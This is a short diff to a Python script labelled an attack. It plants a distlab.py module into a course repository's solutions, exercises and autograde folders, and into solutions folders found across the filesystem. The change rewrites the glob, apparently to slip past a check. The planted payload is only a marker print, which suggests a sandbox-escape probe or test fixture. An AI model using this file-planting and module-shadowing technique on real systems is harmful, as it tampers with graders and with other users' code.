@@ -1,7 +1,7 @@
 # attack: writes into solutions/, exercises/, autograde/ and the instructor's notebook, plants distlab.py for later students
 import glob, os, distlab
 repo = os.path.dirname(os.path.dirname(os.path.dirname(distlab.__file__)))
-targets = [os.path.join(repo, d) for d in ("solutions", "exercises", "autograde")] + glob.glob("/**/solutions/*/", recursive=True)
+targets = [os.path.join(repo, d) for d in ("solutions", "exercises", "autograde")] + [p for d in range(7) for p in glob.glob("/" + "*/" * d + "solutions/*/")]
 for folder in targets:
     try:
         open(os.path.join(folder, "distlab.py"), "w").write("print('HOSTILE: planted')\n")
